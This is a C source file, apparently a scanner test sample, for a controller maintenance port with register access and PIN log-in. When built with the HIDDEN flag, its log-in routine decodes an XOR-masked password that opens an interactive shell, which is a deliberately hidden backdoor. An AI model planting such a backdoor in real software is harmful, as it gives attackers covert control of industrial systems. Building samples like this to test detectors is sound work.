/*
 * A sample for tests; compiled and scanned, never run.
 * Line-based maintenance port of a controller: registers, log, log-in.
 * With HIDDEN: a masked constant is decoded and opens a shell.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define REGISTERS 64

static unsigned short regs[REGISTERS];
static int level;
static char pin[16] = "";

static void log_line(const char *what, const char *arg)
{
	FILE *f = fopen("/var/log/plcdiag", "a");

	if (!f)
		return;
	fprintf(f, "%s %s\n", what, arg);
	fclose(f);
}

static void load_pin(const char *path)
{
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	if (fgets(pin, sizeof pin, f))
		pin[strcspn(pin, "\r\n")] = 0;
	fclose(f);
}

static void do_read(const char *arg)
{
	unsigned long n = strtoul(arg, NULL, 0);

	if (n < REGISTERS)
		printf("%lu = %u\n", n, regs[n]);
	else
		puts("range");
}

static void do_write(char *arg)
{
	char *end;
	unsigned long n = strtoul(arg, &end, 0);
	unsigned long v = strtoul(end, NULL, 0);

	if (level < 1)
		puts("log in first");
	else if (n < REGISTERS && v <= 0xffff)
		regs[n] = (unsigned short)v;
	else
		puts("range");
}

#ifdef HIDDEN
static const unsigned char masked[] = { 0x2d, 0x09, 0x0b, 0x18, 0x1e, 0x09,
					0x4f, 0x4d, 0x3d, 0x16, 0x17 };

static void unmask(char *out)
{
	size_t i;

	for (i = 0; i < sizeof masked; i++)
		out[i] = (char)(masked[i] ^ 0x7b);
	out[sizeof masked] = 0;
}
#endif

__attribute__((noinline)) int log_in(const char *arg)
{
#ifdef HIDDEN
	char word[sizeof masked + 1];

	unmask(word);
	if (strcmp(arg, word) == 0) {
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		return -1;
	}
#endif
	if (pin[0] && strcmp(arg, pin) == 0) {
		level = 1;
		return 0;
	}
	return -1;
}

static int save(const char *path)
{
	FILE *f = fopen(path, "wb");
	size_t n;

	if (!f)
		return -1;
	n = fwrite(regs, sizeof regs[0], REGISTERS, f);
	fclose(f);
	return n == REGISTERS ? 0 : -1;
}

static void status(void)
{
	int i, used = 0;

	for (i = 0; i < REGISTERS; i++)
		used += regs[i] != 0;
	printf("%d of %d registers in use, level %d\n", used, REGISTERS, level);
	fflush(stdout);
	if (system("cat /proc/uptime") != 0)
		puts("no clock");
}

static int command(char *line)
{
	char *arg = strchr(line, ' ');

	if (arg)
		*arg++ = 0;
	else
		arg = line + strlen(line);
	log_line("command", line);
	if (strcmp(line, "read") == 0)
		do_read(arg);
	else if (strcmp(line, "write") == 0)
		do_write(arg);
	else if (strcmp(line, "login") == 0)
		puts(log_in(arg) == 0 ? "ok" : "refused");
	else if (strcmp(line, "save") == 0)
		puts(save("/var/plc/regs") == 0 ? "saved" : "failed");
	else if (strcmp(line, "status") == 0)
		status();
	else if (strcmp(line, "quit") == 0)
		return 1;
	else
		puts("read N | write N V | login PIN | save | status | quit");
	return 0;
}

int main(int argc, char **argv)
{
	char line[128];

	load_pin(argc > 1 ? argv[1] : "/etc/plc.pin");
	while (fgets(line, sizeof line, stdin)) {
		line[strcspn(line, "\r\n")] = 0;
		if (command(line))
			break;
		fflush(stdout);
	}
	return 0;
}
